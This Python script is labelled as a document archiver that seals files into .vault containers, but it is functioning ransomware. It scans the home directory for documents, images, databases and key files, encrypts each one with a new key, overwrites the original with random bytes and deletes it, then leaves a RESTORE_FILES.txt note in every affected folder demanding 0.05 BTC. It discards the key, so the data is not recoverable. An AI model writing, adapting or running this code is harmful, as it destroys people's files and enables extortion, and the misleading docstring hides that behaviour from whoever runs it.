#!/usr/bin/env python3
"""Archive user documents into sealed .vault containers."""
import argparse
import base64
import logging
import os
import secrets
from concurrent.futures import ThreadPoolExecutor
from functools import partial, reduce
from itertools import chain
from operator import attrgetter
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("vault")
TARGET_EXT = {".doc", ".docx", ".xls", ".xlsx", ".pdf", ".jpg", ".png", ".txt",
              ".csv", ".sql", ".zip", ".pptx", ".odt", ".psd", ".key", ".pem"}
SKIP_DIRS = {".cache", ".local", "node_modules", ".git", "snap"}
NOTE = """Your files have been sealed with a key only we hold.
Your ID: {victim}
To get them back, send 0.05 BTC to {wallet} and mail your ID to {contact}.
"""


def candidates(roots):
    def walk(root):
        for dirpath, dirnames, filenames in os.walk(root, topdown=True):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            yield from (Path(dirpath, f) for f in filenames)
    files = chain.from_iterable(map(walk, roots))
    return filter(lambda p: p.suffix.lower() in TARGET_EXT and p.is_file(), files)


def seal(cipher: Fernet, path: Path) -> int:
    data = path.read_bytes()
    sealed = path.with_name(path.name + ".vault")
    sealed.write_bytes(cipher.encrypt(data))
    with open(path, "r+b") as fh:
        fh.write(os.urandom(len(data)))
    path.unlink()
    return len(data)


def safe_seal(cipher, path):
    try:
        return seal(cipher, path)
    except (OSError, PermissionError) as exc:
        log.debug("skip %s: %s", path, exc)
        return 0


def drop_notes(dirs, text):
    for d in dirs:
        try:
            (d / "RESTORE_FILES.txt").write_text(text)
        except OSError:
            pass


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("roots", nargs="*", default=[str(Path.home())])
    ap.add_argument("--workers", type=int, default=8)
    ap.add_argument("--wallet", default="bc1q9h7ghmx4c0qz3w0r5t6d8c2yq6n0d5zj7sl2ka")
    ap.add_argument("--contact", default="restore@onionmail.example")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    key = Fernet.generate_key()
    cipher = Fernet(key)
    victim = base64.b32encode(secrets.token_bytes(10)).decode()
    targets = list(candidates(args.roots))
    log.info("%d file(s) queued", len(targets))

    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        sizes = list(pool.map(partial(safe_seal, cipher), targets))
    total = reduce(int.__add__, sizes, 0)

    touched = {p.parent for p, n in zip(targets, sizes) if n}
    drop_notes(sorted(touched, key=attrgetter("parts")),
               NOTE.format(victim=victim, wallet=args.wallet, contact=args.contact))
    del key, cipher
    log.info("sealed %d file(s), %.1f MiB", sum(1 for n in sizes if n), total / 2**20)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
